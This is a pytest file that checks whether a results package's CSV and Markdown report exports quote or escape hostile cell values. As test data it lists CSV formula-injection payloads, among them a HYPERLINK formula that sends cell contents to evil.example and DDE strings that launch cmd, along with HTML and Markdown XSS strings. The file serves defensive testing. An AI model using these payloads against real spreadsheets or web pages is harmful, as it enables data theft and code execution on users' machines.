"""Hostile names in the report's CSV and Markdown files are shown as text, never evaluated or rendered.

The CSV side is checked against the OWASP rule (a text cell starting with = + - @ tab CR is
prefixed with a quote) with Python's own csv reader; the Markdown side by rendering the
table with the ``markdown`` package when it is installed (else by the escaped characters).
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pandas as pd
import pytest

from robustbench_iqa.report import to_markdown
from robustbench_iqa.safe_cells import FORMULA_START, csv_cell, csv_frame, markdown_cell
from robustbench_iqa.store import ResultsStore, RowKey

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_cells_are_quoted(payload: str) -> None:
    assert csv_cell(payload) == "'" + payload


@pytest.mark.parametrize("value", ["-0.5", "+3", "-1e-05", " -2 ", "plain.png", "a=b", "", 0.5, -1, None, True])
def test_numbers_and_plain_text_are_left_alone(value: object) -> None:
    assert csv_cell(value) == value


def test_csv_round_trip_shows_the_text(tmp_path: Path) -> None:
    shown = [p for p in PAYLOADS if "\r" not in p]  # (a bare CR splits a row for some readers)
    df = pd.DataFrame({"image": shown, "score": [-0.5] * len(shown), "=col": ["x"] * len(shown)})
    text = csv_frame(df).to_csv(index=False)
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == ["image", "score", "'=col"] and len(rows) == len(shown) + 1
    for payload, row in zip(shown, rows[1:]):
        assert row[0] == "'" + payload and not row[0].startswith(FORMULA_START)
        assert row[1] == "-0.5"  # a number stays a number


@pytest.mark.parametrize("name", ['<img src=x onerror=alert(1)>', "<script>alert(1)</script>",
                                  "![t](http://evil.example/t.png)", "[click](javascript:alert(1))",
                                  "a|b", "`code`", "x & y"])
def test_markdown_cells_render_as_text(name: str) -> None:
    md = to_markdown(pd.DataFrame({"image": [name], "score": [0.5]}))
    body = md.splitlines()[2]
    assert body.count("|") - body.count("\\|") == 3  # still two cells
    assert "<" not in body and ">" not in body
    markdown = pytest.importorskip("markdown")
    html = markdown.markdown(md, extensions=["tables"])
    assert "<img" not in html and "<script" not in html and "<a " not in html
    assert markdown_cell(name) in md


def test_store_export_and_report_tables_neutralise(tmp_path: Path) -> None:
    run = tmp_path / "run"
    name = '=HYPERLINK("http://evil.example","x")#0123456789ab'
    with ResultsStore.open(run, {"kind": "test"}) as store:
        store.put(RowKey("guarantee", "default-nr", "fs-iqa", 0.25, name), {"score": -0.25, "note": "@cmd"})
        paths = store.export(tmp_path / "data", formats=("csv",))
    rows = list(csv.DictReader(paths[0].open()))
    assert rows[0]["image"] == "'" + name and rows[0]["note"] == "'@cmd" and rows[0]["score"] == "-0.25"
